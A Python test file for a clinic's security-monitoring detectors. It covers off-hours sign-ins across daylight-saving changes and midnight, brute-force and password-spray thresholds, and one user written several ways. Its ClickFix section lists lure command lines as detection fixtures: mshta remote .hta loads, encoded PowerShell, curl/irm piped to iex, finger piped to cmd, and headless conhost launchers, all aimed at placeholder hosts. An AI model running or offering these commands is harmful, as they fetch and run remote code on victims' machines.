"""Edge cases of the sign-in and process detectors: clocks that change, midnight, thresholds
met exactly, bursts across bucket and day boundaries, one person written several ways, and
the command shapes ClickFix lures use against the drill's inert link. Every test builds its
own events at fixed times and runs the real detectors on DuckDB."""

from datetime import timedelta
from pathlib import Path

import pytest

from clinicshield.monitoring.core.detectors.context import DetectionContext
from clinicshield.monitoring.core.detectors.events import event_table
from clinicshield.monitoring.core.detectors.failures import (
    detect_brute_force,
    detect_password_spray,
    detect_spray_success,
)
from clinicshield.monitoring.core.detectors.process_rules import detect_process_rules
from clinicshield.monitoring.core.detectors.settings import DetectionSettings
from clinicshield.monitoring.core.detectors.unusual_access import detect_off_hours
from clinicshield.monitoring.core.sigma_rules import load_rules
from clinicshield.simulations.core.landing import clipboard_payload
from tests.monitoring.ingest.helpers import run as ingest_file
from tests.monitoring.ingest.helpers import write

from .conftest import ORG, at, signin

MADRID = "Europe/Madrid"
EVERY_DAY_8_TO_15 = {day: [("08:00", "15:00")] for day in range(7)}
NO_GRACE = DetectionSettings(opening_hours_grace_minutes=0)


def context(start: str, end: str, **values) -> DetectionContext:
    values.setdefault("timezone", MADRID)
    values.setdefault("opening_hours", EVERY_DAY_8_TO_15)
    return DetectionContext(start=at(start), end=at(end), **values)


def off_hours(store, con, rows, ctx) -> list[tuple[str, str, int]]:
    store("auth", rows)
    findings = detect_off_hours(con, store.table("auth"), ctx)
    return sorted((f.user, f.params["time"], f.params["weekday"]) for f in findings)


# --- Time: the clinic's own clock -------------------------------------------------------


def test_on_the_autumn_change_both_0230s_are_judged_as_0230_sunday(store, con):
    # 26 October 2025: Madrid's 02:30 happens at 00:30 UTC (summer time) and 01:30 UTC.
    rows = [
        signin(at("2025-10-26 00:30"), "bob"),
        signin(at("2025-10-26 01:30"), "carl"),
        # 07:40 local in winter time (06:40 UTC): inside the 30 minutes' grace before 08:00.
        signin(at("2025-10-26 06:40"), "dan"),
    ]
    ctx = context("2025-10-25 12:00", "2025-10-27 00:00")
    assert off_hours(store, con, rows, ctx) == [("bob", "02:30", 6), ("carl", "02:30", 6)]


def test_on_the_spring_change_the_missing_hour_is_skipped_not_invented(store, con):
    # 30 March 2025: 00:59 UTC is 01:59 local, one minute later (01:00 UTC) it is 03:00.
    # 06:10 UTC is 08:10 in summer time (open); 05:50 UTC is 07:50 (closed, no grace).
    rows = [
        signin(at("2025-03-30 00:59"), "bob"),
        signin(at("2025-03-30 01:00"), "carl"),
        signin(at("2025-03-30 06:10"), "dan"),
        signin(at("2025-03-30 05:50"), "eve"),
    ]
    ctx = context("2025-03-29 12:00", "2025-03-31 00:00", settings=NO_GRACE)
    assert off_hours(store, con, rows, ctx) == [
        ("bob", "01:59", 6),
        ("carl", "03:00", 6),
        ("eve", "07:50", 6),
    ]


def test_midnight_belongs_to_the_next_local_day(store, con):
    # Open Saturdays only until 15:00, Sundays 00:00-02:00 (a night service): 22:59:59 UTC
    # on Saturday is 23:59:59 local Saturday (closed), 23:00 UTC is 00:00 local Sunday (open).
    hours = {5: [("08:00", "15:00")], 6: [("00:00", "02:00")]}
    rows = [
        signin(at("2025-02-08 22:59:59"), "bob"),
        signin(at("2025-02-08 23:00"), "carl"),
    ]
    ctx = context("2025-02-08 00:00", "2025-02-10 00:00", opening_hours=hours, settings=NO_GRACE)
    assert off_hours(store, con, rows, ctx) == [("bob", "23:59", 5)]


def test_a_night_service_across_midnight_is_open_on_both_sides(store, con):
    # "mon-fri 20:00-23:59; tue-sat 00:00-02:00": a night service from 20:00 to 02:00.
    hours = {d: [("20:00", "23:59")] for d in range(5)}
    hours.update({d: [("00:00", "02:00")] for d in range(1, 6)})
    rows = [
        signin(at("2025-02-03 22:30"), "bob"),  # Monday 23:30 local
        signin(at("2025-02-04 00:30"), "carl"),  # Tuesday 01:30 local
        signin(at("2025-02-04 02:30"), "dan"),  # Tuesday 03:30 local: closed
    ]
    ctx = context("2025-02-03 00:00", "2025-02-05 00:00", opening_hours=hours)
    assert off_hours(store, con, rows, ctx) == [("dan", "03:30", 1)]


def test_the_grace_after_sunday_night_reaches_into_monday(store, con):
    # Open Saturday and Sunday until 23:59; the 30 minutes' grace covers 00:10 after either
    # night, the one that ends the week (Sunday into Monday) too.
    hours = {5: [("16:00", "23:59")], 6: [("16:00", "23:59")]}
    rows = [
        signin(at("2025-02-08 23:10"), "bob"),  # Sunday 00:10 local, after Saturday night
        signin(at("2025-02-09 23:10"), "carl"),  # Monday 00:10 local, after Sunday night
        signin(at("2025-02-10 00:10"), "dan"),  # Monday 01:10 local: past the grace
    ]
    ctx = context("2025-02-08 00:00", "2025-02-11 00:00", opening_hours=hours)
    assert off_hours(store, con, rows, ctx) == [("dan", "01:10", 0)]


def test_the_grace_before_monday_morning_reaches_back_into_sunday(store, con):
    hours = {0: [("00:00", "06:00")]}
    rows = [
        signin(at("2025-02-09 22:40"), "bob"),  # Sunday 23:40 local: 20 minutes before
        signin(at("2025-02-09 22:20"), "carl"),  # Sunday 23:20 local: 40 minutes before
    ]
    ctx = context("2025-02-09 00:00", "2025-02-11 00:00", opening_hours=hours)
    assert off_hours(store, con, rows, ctx) == [("carl", "23:20", 6)]


def test_events_stored_in_utc_from_a_source_in_another_zone_keep_their_moment(tmp_path: Path, con):
    # A VPN in New York logs local times; ingestion stores UTC; the clinic judges Madrid's
    # clock: 02:30 in New York (EST) is 07:30 UTC, 08:30 in Madrid: open.
    log = write(
        tmp_path / "vpn.csv",
        ["login_time,username,result", "2025-02-04 02:30:00,Bob,OK"],
    )
    mapping = {
        "kind": "auth",
        "fields": {"ts": "login_time", "user": "username", "outcome": "result"},
    }
    mapping["values"] = {"outcome": {"OK": "success"}}
    data_dir = tmp_path / "store"
    ingest_file(data_dir, log, "csv", timezone="America/New_York", options={"mapping": mapping})
    auth = event_table(con, data_dir, ORG, "auth")
    ctx = context("2025-02-03 00:00", "2025-02-06 00:00", settings=NO_GRACE)
    assert detect_off_hours(con, auth, ctx) == []
    night = context("2025-02-03 00:00", "2025-02-06 00:00", timezone="America/New_York")
    assert [(f.user, f.params["time"]) for f in detect_off_hours(con, auth, night)] == [
        ("bob", "02:30")
    ]


# --- Identity: one person, written several ways ----------------------------------------

VPN_MAPPING = {
    "kind": "auth",
    "fields": {"ts": "at", "user": "who", "src_ip": "ip", "outcome": "result"},
    "values": {"outcome": {"OK": "success", "DENIED": "failure"}},
    "constants": {"app": "vpn"},
}


def ingested_vpn_log(tmp_path: Path, rows: list[str]) -> Path:
    log = write(tmp_path / "vpn.csv", ["at,who,ip,result", *rows])
    data_dir = tmp_path / "store"
    ingest_file(data_dir, log, "csv", timezone="UTC", options={"mapping": VPN_MAPPING})
    return data_dir


def test_an_application_log_writes_one_person_three_ways_and_counts_as_one(tmp_path: Path, con):
    # docs/monitoring-ingest.md: "CLINICA\Ana and ana@clinica.example are ana".
    spellings = ["CLINICA\\Ana", "ana@clinica.example", "ANA"]
    rows = [f"2025-02-03 09:0{i}:00,{spellings[i % 3]},203.0.113.9,DENIED" for i in range(10)]
    data_dir = ingested_vpn_log(tmp_path, rows)
    auth = event_table(con, data_dir, ORG, "auth")
    ctx = context("2025-02-03 00:00", "2025-02-04 00:00")
    findings = detect_brute_force(con, auth, ctx)
    assert [(f.key, f.count) for f in findings] == [("brute_force:user:ana", 10)]


def test_a_spray_counts_people_not_spellings(tmp_path: Path, con):
    people = ["CLINICA\\ana", "ana@clinica.example", "Ana", "bob", "carl", "dan", "eve", "fay"]
    rows = [f"2025-02-03 10:0{i}:00,{who},198.51.100.7,DENIED" for i, who in enumerate(people)]
    data_dir = ingested_vpn_log(tmp_path, rows)
    auth = event_table(con, data_dir, ORG, "auth")
    ctx = context("2025-02-03 00:00", "2025-02-04 00:00")
    assert detect_password_spray(con, auth, ctx) == []  # six people, not eight


# --- ClickFix: what lures run, against the drill's inert link ---------------------------

WIN = "C:\\Windows\\System32\\"
POWERSHELL = WIN + "WindowsPowerShell\\v1.0\\powershell.exe"
RUNMRU = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a"
LURES = {
    "mshta": (WIN + "mshta.exe", "mshta https://verify-human.example/captcha.hta"),
    "powershell -enc": (POWERSHELL, "powershell -w 1 -ep bypass -enc SQBFAFgAIAAoAGkAdwByACkA"),
    "powershell -e": (POWERSHELL, "powershell -nop -e SQBFAFgAIAAoAGkAdwByACkA"),
    "curl | iex": (POWERSHELL, 'powershell -c "curl.exe -s https://cdn.example/a | iex"'),
    "irm | iex": (POWERSHELL, 'powershell -c "irm cdn.example/a|iex" # ✅ Verification ID 8812'),
    "cmd curl": (WIN + "cmd.exe", "cmd /c curl -s -o %TEMP%\\a.exe https://x.example/a.exe"),
    "finger": (WIN + "finger.exe", "finger verify@captcha.example"),
    "cmd | finger": (WIN + "cmd.exe", 'cmd /c "finger ok@203.0.113.7 | cmd"'),
    "webdav hta": (WIN + "mshta.exe", "mshta \\\\evil.example@SSL\\DavWWWRoot\\v.hta"),
    "conhost --headless": (
        WIN + "conhost.exe",
        'conhost.exe --headless powershell -w h -c "iex(irm https://x.example/a)"',
    ),
    "conhost --headless cmd": (
        WIN + "conhost.exe",
        'conhost --headless cmd /c "curl x.example|cmd"',
    ),
    "powershell -ec": (POWERSHELL, "powershell -nop -ec SQBFAFgAIAAoAGkAdwByACkA"),
    "mshta vbscript": (
        WIN + "mshta.exe",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"")")',
    ),
}


def explorer_started(minute: int, image: str, command: str) -> dict:
    moment = at("2025-02-03 09:00") + timedelta(minutes=minute)
    return {
        "ts": moment,
        "host": "reception-pc",
        "user": "ana",
        "event_code": "sysmon:1",
        "image": image,
        "parent_image": WIN.replace("System32\\", "") + "explorer.exe",
        "command_line": command,
        "record_ref": f"sysmon.evtx {minute}",
    }


def clickfix_commands(store, con, rows) -> list[str]:
    store("process", rows)
    ctx = context("2025-02-03 00:00", "2025-02-04 00:00", sigma_rules=tuple(load_rules([]).rules))
    findings = detect_process_rules(con, store.table("process"), ctx)
    return sorted(f.command_line for f in findings if f.kind == "clickfix")


@pytest.mark.parametrize("shape", sorted(LURES))
def test_explorer_starting_a_lure_shape_is_clickfix(store, con, shape):
    image, command = LURES[shape]
    assert clickfix_commands(store, con, [explorer_started(1, image, command)]) == [command]


@pytest.mark.parametrize("language", ["en", "es"])
def test_the_drills_link_opened_from_the_run_box_is_no_code_execution(store, con, language):
    # What the drill copies; Win+R hands a link to the browser, which is no scripting host.
    payload = clipboard_payload("https://clinicshield.example", "tok" * 8, "clickfix", language)
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    browser = explorer_started(1, edge, f'"{edge}" --single-argument {payload.text}')
    assert clickfix_commands(store, con, [browser]) == []
    # The Run box's history does hold a web link: the drill's own token credits it to the
    # campaign (test_clickfix_simulation.py); no LOLBin word hides in the decoy label.
    history = {**browser, "event_code": "sysmon:13", "image": None, "command_line": None}
    history.update(target_object=RUNMRU, details=payload.text + "\\1", event_type="SetValue")
    store("process", [history])
    ctx = context("2025-02-03 00:00", "2025-02-04 00:00", sigma_rules=tuple(load_rules([]).rules))
    findings = detect_process_rules(con, store.table("process"), ctx)
    assert [(f.kind, [r["title"] for r in f.evidence["rules"]]) for f in findings] == [
        (
            "clickfix",
            [
                "ClickFix - Run Dialog History Holds a Web Link, an Outside Share or a "
                "Scripting Binary"
            ],
        )
    ]
    assert "tok" * 8 in findings[0].command_line


# --- Thresholds: exactly at them, and across boundaries ---------------------------------


def failed(moments, user="ana", ip="203.0.113.9") -> list[dict]:
    return [
        signin(m, user, outcome="failure", src_ip=ip, record_ref=f"sec.evtx {m:%H%M%S}")
        for m in moments
    ]


def every(start: str, seconds: int, count: int) -> list:
    return [at(start) + timedelta(seconds=seconds * i) for i in range(count)]


def brute_force(store, con, rows, start="2025-02-03 00:00", end="2025-02-05 00:00"):
    store("auth", rows)
    findings = detect_brute_force(con, store.table("auth"), context(start, end))
    return [(f.key, f.count) for f in findings]


def test_ten_failures_are_a_burst_and_nine_are_not(store, con):
    assert brute_force(store, con, failed(every("2025-02-03 09:01", 30, 10))) == [
        ("brute_force:user:ana", 10)
    ]


def test_nine_failures_are_not_a_burst(store, con):
    assert brute_force(store, con, failed(every("2025-02-03 09:01", 30, 9))) == []


def test_a_burst_across_utc_midnight_is_one_burst(store, con):
    assert brute_force(store, con, failed(every("2025-02-03 23:58", 20, 10))) == [
        ("brute_force:user:ana", 10)
    ]


def test_ten_failures_within_nine_minutes_across_both_grids_are_a_burst(store, con):
    assert brute_force(store, con, failed(every("2025-02-03 09:03", 60, 10))) == [
        ("brute_force:user:ana", 10)
    ]


def spray(users: list[str], start: str, minutes: int) -> list[dict]:
    moments = every(start, minutes * 60, len(users))
    return [failed([m], user, "198.51.100.7")[0] for m, user in zip(moments, users, strict=True)]


def test_eight_accounts_in_an_hour_are_a_spray_and_seven_are_not(store, con):
    people = ["ana", "bob", "carl", "dan", "eve", "fay", "gil", "hal"]
    store("auth", spray(people[:7], "2025-02-03 10:00", 5) + spray(people, "2025-02-04 10:20", 5))
    found = detect_password_spray(
        con, store.table("auth"), context("2025-02-03 00:00", "2025-02-05 00:00")
    )
    assert [(f.key, f.params["users"]) for f in found] == [("password_spray:198.51.100.7", 8)]


def test_the_success_after_a_spray_is_found_by_the_next_days_pass(store, con):
    people = ["ana", "bob", "carl", "dan", "eve", "fay", "gil", "hal"]
    success = signin(at("2025-02-04 09:00"), "hal", src_ip="198.51.100.7")
    store("auth", spray(people, "2025-02-03 23:30", 5) + [success])
    ctx = context("2025-02-04 00:00", "2025-02-05 00:00")
    found = detect_spray_success(con, store.table("auth"), ctx)
    assert [(f.key, f.first_seen) for f in found] == [
        ("spray_success:198.51.100.7:hal", at("2025-02-04 09:00"))
    ]
